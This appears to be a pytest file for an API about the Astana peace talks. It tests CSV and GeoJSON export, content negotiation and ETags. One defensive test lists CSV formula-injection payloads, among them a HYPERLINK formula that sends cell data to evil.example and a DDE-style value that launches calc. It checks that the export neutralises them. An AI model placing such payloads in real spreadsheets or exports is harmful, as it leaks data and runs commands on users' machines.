"""CSV read back with pandas, GeoJSON read back with GDAL (pyogrio), content negotiation, ETags."""

from __future__ import annotations

import io
import json

import pandas as pd
import pyogrio
import pyogrio.raw
import shapely
import pytest

from apifactory import DERAA, IDLIB, assert_problem, delegation, meeting, party, person, place, process, round_, zone

LISTS = ["/processes", "/places", "/parties", "/persons", "/rounds", "/delegations", "/meetings", "/zones",
         "/articles"]


@pytest.fixture
def record(client, writer):
    pr = process(client, writer, name_ar="محادثات أستانا")
    pl = place(client, writer, name_ar="أستانا")
    ru = party(client, writer, name_en="Russia", name_ar="الرُّوسِيّة", aliases=["Moscow", "الوفد الروسي"])
    pe = person(client, writer, name_ar="ألكسندر لافرينتييف", party_id=ru["id"])
    r = round_(client, writer, pr["id"], number=6, place_id=pl["id"], start_date="2017-09-14")
    d = delegation(client, writer, r["id"], ru["id"], member_ids=[pe["id"]])
    m = meeting(client, writer, round_id=r["id"], summary="اجتماع مغلق", participants=[{"party_id": ru["id"]}])
    z = zone(client, writer, name_en="Idlib", name_ar="إدلب", geometry=IDLIB, status="in_force",
             areas=["محافظة إدلب", "ريف حماة الشمالي"])
    z2 = zone(client, writer, name_en="Deraa", name_ar="درعا", geometry=DERAA, status="agreed")
    return {"process": pr, "place": pl, "party": ru, "person": pe, "round": r, "delegation": d, "meeting": m,
            "zone": z, "zone2": z2}


@pytest.mark.parametrize("path", LISTS)
@pytest.mark.parametrize("how", ["accept", "format"])
def test_csv_of_every_list_reads_back_with_pandas(client, record, path, how):
    kw = {"headers": {"Accept": "text/csv"}} if how == "accept" else {"params": {"format": "csv"}}
    r = client.get(path, **kw)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    frame = pd.read_csv(io.BytesIO(r.content), encoding="utf-8")
    as_json = client.get(path, params={"limit": 50}).json()["items"]
    assert len(frame) == len(as_json)
    assert "id" in frame.columns and list(frame["id"]) == [i["id"] for i in as_json]
    assert set(as_json[0]) <= set(frame.columns) if as_json else True


def test_csv_values_and_arabic_intact(client, record):
    frame = pd.read_csv(io.StringIO(client.get("/parties", params={"format": "csv"}).text))
    row = frame.set_index("id").loc[record["party"]["id"]]
    assert row["name_ar"] == "الرُّوسِيّة" and row["name_en"] == "Russia"
    assert row["aliases"].split("; ") == ["Moscow", "الوفد الروسي"]
    assert row["role"] == "other"
    zones = pd.read_csv(io.StringIO(client.get("/zones", headers={"Accept": "text/csv"}).text)).set_index("id")
    z = zones.loc[record["zone"]["id"]]
    assert z["areas"].split("; ") == ["محافظة إدلب", "ريف حماة الشمالي"]
    assert json.loads(z["geometry"]) == IDLIB
    meetings = pd.read_csv(io.StringIO(client.get("/meetings", params={"format": "csv"}).text)).set_index("id")
    mrow = meetings.loc[record["meeting"]["id"]]
    assert mrow["summary"] == "اجتماع مغلق"
    assert json.loads(mrow["participants"])[0]["name_ar"] == "الرُّوسِيّة"
    dframe = pd.read_csv(io.StringIO(client.get("/delegations", params={"format": "csv"}).text))
    assert str(dframe.set_index("id").loc[record["delegation"]["id"], "member_ids"]) == str(record["person"]["id"])


FORMULAS = {"name_en": '=HYPERLINK("http://evil.example/?leak="&A1,"Astana")', "name_ar": "@SUM(1)",
            "aliases": ["+1+1", "plain", "-2"]}


def test_csv_neutralizes_formulas_and_json_keeps_them(client, writer):
    """OWASP CSV injection: a text cell a spreadsheet would run begins with ' in CSV; numbers,
    dates and ids do not; JSON returns exactly what was stored."""
    pr = process(client, writer, **FORMULAS)
    pl = place(client, writer, name_en="\tcmd|' /C calc'!A0", name_ar="-عمان", lon=-3.7, lat=-40.25)
    me = meeting(client, writer, summary="\r=1+1", place_id=pl["id"])
    frame = pd.read_csv(io.StringIO(client.get("/processes", params={"format": "csv"}).text)).set_index("id")
    row = frame.loc[pr["id"]]
    assert row["name_en"] == "'" + FORMULAS["name_en"] and row["name_ar"] == "'@SUM(1)"
    assert row["aliases"] == "'+1+1; plain; -2"  # the cell begins with its first alias
    assert row["version"] == pr["version"]
    places = pd.read_csv(io.StringIO(client.get("/places", headers={"Accept": "text/csv"}).text)).set_index("id")
    prow = places.loc[pl["id"]]
    assert prow["name_en"] == "'\tcmd|' /C calc'!A0" and prow["name_ar"] == "'-عمان"
    assert (prow["lon"], prow["lat"]) == (-3.7, -40.25)  # numbers, negative ones too, are written as they are
    text = client.get("/meetings", params={"format": "csv"}).text
    assert "'\r=1+1" in text and "2017-09-14" in text  # the date is not touched
    # JSON, item and list: the stored value, byte for byte; nothing the client sent is lost
    got = client.get(f"/processes/{pr['id']}").json()
    assert {k: got[k] for k in FORMULAS} == FORMULAS
    assert client.get(f"/places/{pl['id']}").json()["name_en"] == "\tcmd|' /C calc'!A0"
    assert next(m for m in client.get("/meetings").json()["items"] if m["id"] == me["id"])["summary"] == "\r=1+1"


def test_csv_of_nested_lists(client, record):
    rid = record["round"]["id"]
    for path in (f"/rounds/{rid}/meetings", f"/rounds/{rid}/delegations",
                 f"/parties/{record['party']['id']}/meetings"):
        r = client.get(path, params={"format": "csv"})
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), path
        assert len(pd.read_csv(io.StringIO(r.text))) == 1, path


def _read_geojson(tmp_path, content: bytes) -> pd.DataFrame:
    """Read the saved file with GDAL (pyogrio.raw: no geopandas needed); geometry as shapely."""
    file = tmp_path / "zones.geojson"
    file.write_bytes(content)
    meta, _fids, geometry, fields = pyogrio.raw.read(file)
    frame = pd.DataFrame({name: values for name, values in zip(meta["fields"], fields)})
    frame["geometry"] = [None if g is None else shapely.from_wkb(g) for g in geometry]
    return frame


@pytest.mark.parametrize("how", ["accept", "format"])
def test_zones_as_geojson_read_by_gdal(client, record, tmp_path, how):
    kw = {"headers": {"Accept": "application/geo+json"}} if how == "accept" else {"params": {"format": "geojson"}}
    r = client.get("/zones", **kw)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/geo+json")
    assert r.json()["type"] == "FeatureCollection"
    frame = _read_geojson(tmp_path, r.content)
    assert len(frame) == 2
    by_name = frame.set_index("name_en")
    assert by_name.loc["Idlib", "name_ar"] == "إدلب"
    assert by_name.loc["Idlib", "status"] == "in_force"
    assert by_name.loc["Deraa", "status"] == "agreed"
    geom = by_name.loc["Idlib", "geometry"]
    assert geom.geom_type == "Polygon"
    assert geom.bounds == (36.0, 35.5, 37.0, 36.5)
    assert list(geom.exterior.coords) == [tuple(p) for p in IDLIB["coordinates"][0]]
    meta = pyogrio.read_info(tmp_path / "zones.geojson")
    assert meta["features"] == 2 and meta["geometry_type"] == "Polygon"


def test_zone_without_geometry_is_a_null_feature(client, writer, tmp_path):
    zone(client, writer, name_en="Eastern Ghouta", name_ar="الغوطة الشرقية")
    body = client.get("/zones", params={"format": "geojson"}).json()
    assert body["features"][0]["geometry"] is None
    assert body["features"][0]["properties"]["name_ar"] == "الغوطة الشرقية"
    frame = _read_geojson(tmp_path, json.dumps(body).encode())
    assert list(frame["name_ar"]) == ["الغوطة الشرقية"]


@pytest.mark.parametrize("geometry, why", [
    ({"type": "Polygon", "coordinates": [[[36, 35], [37, 35], [37, 36], [36, 36]]]}, "unclosed ring"),
    ({"type": "Polygon", "coordinates": [[[36, 35], [37, 35], [37, 95], [36, 35]]]}, "latitude out of range"),
    ({"type": "Point", "coordinates": [200, 35]}, "longitude out of range"),
    ({"type": "Polygon", "coordinates": [[[36, 35], [36, 36], [37, 36], [37, 35], [36, 35]]]}, "clockwise exterior"),
    ({"type": "Polygon", "coordinates": [[[36, 35], [37, 36], [37, 35], [36, 36], [36, 35]]]}, "self-intersecting"),
    ({"type": "Circle", "coordinates": [36, 35]}, "unknown type"),
    ({"type": "Point", "coordinates": ["36", 35]}, "text coordinates"),
])
def test_invalid_geometry_rejected_on_create_and_patch(client, writer, geometry, why):
    assert_problem(client.post("/zones", json={"name_en": "Bad", "geometry": geometry}, headers=writer),
                   422, "geometry")
    z = zone(client, writer, geometry=IDLIB)
    etag = client.get(f"/zones/{z['id']}").headers["etag"]
    assert_problem(client.patch(f"/zones/{z['id']}", json={"geometry": geometry},
                                headers={**writer, "If-Match": etag}), 422, "geometry")
    assert client.get(f"/zones/{z['id']}").json()["geometry"] == IDLIB


def test_not_acceptable(client, record):
    for path in ("/zones", "/parties", f"/parties/{record['party']['id']}"):
        assert_problem(client.get(path, headers={"Accept": "application/xml"}), 406)
    assert_problem(client.get("/parties", params={"format": "geojson"}), 406)
    assert_problem(client.get("/parties", headers={"Accept": "application/geo+json"}), 406)
    # a list of media types with a q of 0 for the one offered is refused too
    assert_problem(client.get("/parties", headers={"Accept": "text/csv;q=0, image/png"}), 406)
    assert client.get("/parties", headers={"Accept": "image/png, text/csv;q=0.5"}).headers[
        "content-type"].startswith("text/csv")
    assert client.get("/parties", headers={"Accept": "*/*"}).headers["content-type"] == "application/json"
    assert_problem(client.get("/parties", params={"format": "xml"}), 422, "format")


@pytest.mark.parametrize("path", ["/parties", "/zones", "/meetings"])
def test_etag_and_304_on_lists(client, writer, record, path):
    for kw in ({}, {"params": {"format": "csv"}}):
        first = client.get(path, **kw)
        tag = first.headers["etag"]
        again = client.get(path, headers={"If-None-Match": tag}, **kw)
        assert again.status_code == 304 and again.content == b"" and again.headers["etag"] == tag
        assert client.get(path, headers={"If-None-Match": f'W/{tag}, "other"'}, **kw).status_code == 304
    csv_tag = client.get(path, params={"format": "csv"}).headers["etag"]
    assert csv_tag != client.get(path).headers["etag"]
    tag = client.get(path).headers["etag"]
    party(client, writer) if path == "/parties" else zone(client, writer) if path == "/zones" else meeting(client, writer)
    changed = client.get(path, headers={"If-None-Match": tag})
    assert changed.status_code == 200 and changed.headers["etag"] != tag


def test_etag_and_304_on_items(client, writer, record):
    for key, path in (("party", "/parties"), ("zone", "/zones"), ("meeting", "/meetings"), ("round", "/rounds")):
        url = f"{path}/{record[key]['id']}"
        tag = client.get(url).headers["etag"]
        assert client.get(url, headers={"If-None-Match": tag}).status_code == 304
        assert client.get(url, headers={"If-None-Match": '"stale"'}).status_code == 200
        for sub in ("evidence",) + (("history",) if key == "zone" else ()):
            r = client.get(f"{url}/{sub}")
            assert client.get(f"{url}/{sub}", headers={"If-None-Match": r.headers["etag"]}).status_code == 304
    url = f"/parties/{record['party']['id']}"
    tag = client.get(url).headers["etag"]
    client.patch(url, json={"role": "guarantor"}, headers={**writer, "If-Match": tag})
    assert client.get(url, headers={"If-None-Match": tag}).status_code == 200


def test_csv_pages_follow_the_link_header(client, writer):
    made = [party(client, writer, name_ar=f"طرف {i}")["id"] for i in range(3)]
    seen, r = [], client.get("/parties", params={"format": "csv", "limit": 1})
    while True:
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        seen += list(pd.read_csv(io.StringIO(r.text))["id"])
        if "link" not in r.headers:
            break
        nxt = r.headers["link"].split(";")[0].strip("<>")
        assert "format=csv" in nxt
        r = client.get(nxt)
    assert seen == made
